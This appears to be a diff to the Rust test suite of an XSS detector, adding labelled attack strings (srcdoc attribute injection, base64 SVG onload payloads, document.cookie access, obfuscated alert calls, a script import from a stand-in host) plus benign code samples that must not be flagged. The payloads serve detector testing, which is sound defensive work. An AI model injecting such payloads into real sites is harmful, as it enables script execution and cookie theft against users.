@@ -142,7 +142,6 @@ fn dangerous_tags_and_attributes() {
             "xss:svg-animate",
         ),
         ("<f o r m", "xss:spaced-tag"),
-        ("< x: script", "xss:spaced-tag"),
         (
             "<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
             "xss:data-binding",
@@ -156,6 +155,14 @@ fn dangerous_tags_and_attributes() {
             "xss:xml-entity",
         ),
         ("<!--#exec cmd=\"/bin/ls\"-->", "xss:ssi"),
+        (
+            "<html xmlns:t=\"urn:schemas-microsoft-com:time\"><t:set attributeName=\"innerHTML\" to=\"x\">",
+            "xss:ie-behavior",
+        ),
+        (
+            "x\"srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;",
+            "xss:attribute-injection",
+        ),
     ]);
 }
 
@@ -219,6 +226,19 @@ fn script_urls_through_obfuscation() {
         (
             "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
             "xss:dangerous-tag",
+        ),
+        (
+            "<a href=\"data:image/svg+xml;base64,PHN2Zz4=\">x</a>",
+            "xss:data-url",
+        ),
+        (
+            "url=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+            "xss:event-handler",
+        ),
+        // shown as an image, the SVG is judged by what it carries
+        (
+            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+            "xss:event-handler",
         ),
         // in text: an injection into an existing URL attribute or a script string
         ("javascript:alert(1)", "xss:js-url"),
@@ -339,8 +359,16 @@ fn script_context_injections() {
         ("alert()", "xss:js-sink"),
         ("x;eval(name)//", "xss:js-sink"),
         ("window.alert()", "xss:dom-access"),
-        ("x.alert()", "xss:js-sink"),
+        ("(0,window).alert(1)", "xss:dom-access"),
+        (
+            "new ActiveXObject('htmlfile').parentWindow.alert(2)",
+            "xss:dom-access",
+        ),
+        ("f.contentWindow.document.cookie", "xss:dom-access"),
+        ("';top.prompt(1)//", "xss:dom-access"),
         ("new Function()", "xss:js-sink"),
+        ("Function('alert(1)')()", "xss:js-sink"),
+        ("self[\"alert\"](1)", "xss:js-obfuscation"),
         ("x\";setTimeout(name, 1)//", "xss:js-sink"),
         ("import('//evil.example/x.js')", "xss:js-sink"),
         ("top[\"al\"+\"ert\"](1)", "xss:js-obfuscation"),
@@ -448,6 +476,7 @@ fn rich_text_passes() {
         "<img src=\"https://example.com/cat.jpg\" alt=\"\">",
         "<img src=\"/uploads/diagram.svg\" alt=\"Diagram\" style=\"max-width: 100%; height: auto;\">",
         "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ\" alt=\"pixel\">",
+        "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\" alt=\"icon\">",
         "<ul><li>One</li><li>Two</li></ul><ol start=\"3\"><li>Three</li></ol>",
         "<span style=\"color: #ff0000; font-family: Arial, sans-serif;\">red</span>",
         "<div style=\"background: url(https://example.com/bg.png) no-repeat\">box</div>",
@@ -495,6 +524,26 @@ fn prose_and_data_pass() {
         "function greet(name) { return \"Hello \" + name; }",
         "for (let i = 0; i < n; i++) { sum += a[i]; }",
         "console.log(\"debug\", value);",
+        "let v = get(\"/a/b\").eval(&acl); expr.eval(ctx)",
+        "fn confirm(input: &[u8], end: usize) -> bool { x }",
+        "enum What { Function(usize) } What::Function(i)",
+        "m(Builder::new().ext(16, vec![])); frames[1..]",
+        "[![](https://img.shields.io/crates/v/x.svg)](https://crates.io/crates/x)",
+        "- Update repository links to new location [camino-rs/camino](https://github.com/x).",
+        "impl<L: Link> LinkedList<L> { if precedence < base { self[bit] = content[idx..]; } }",
+        "content = &content[BOM.len()..]; /// their parent [`Command`].",
+        "// `self.call` is properly paired; we use `Uint8Array.prototype.set.call`, which",
+        "/// The static `String.fromCharCode()` method returns a string",
+        "value: Value::Expression(\"1 + 1\".to_string()); if opts.constructor().is_some() {}",
+        "pub const WLDP_HOST_JAVASCRIPT: windows_sys::core::GUID = GUID::from_u128(0x5629f0d5);",
+        "self.common_state.process_alert(alert)?;",
+        "match self.document.events.get(*self.pos) { Some(&self[self.len() - 1]) }",
+        "    OneMinusSrcColor = 1,",
+        "IO is disabled. Call `enable_io` on the runtime; `setTimeout(0)` is clamped",
+        "if confirm(*ptr) { alert(&format!(\"Hello, {}!\", name)); }",
+        "Alert(1) Confirm(2) Document.Cookie Window.Location TOP['x']",
+        "if let Some(l) = &self.location { self.location(path) }",
+        "Log types: `ALERT`, `FLOW`; checks whose `match.event_type` is ``alert``",
         "{\"name\":\"John\",\"tags\":[\"a\",\"b\"],\"price\":{\"lt\":100}}",
         "SELECT name FROM users WHERE age > 21 ORDER BY name;",
         "select the best option and update your order",
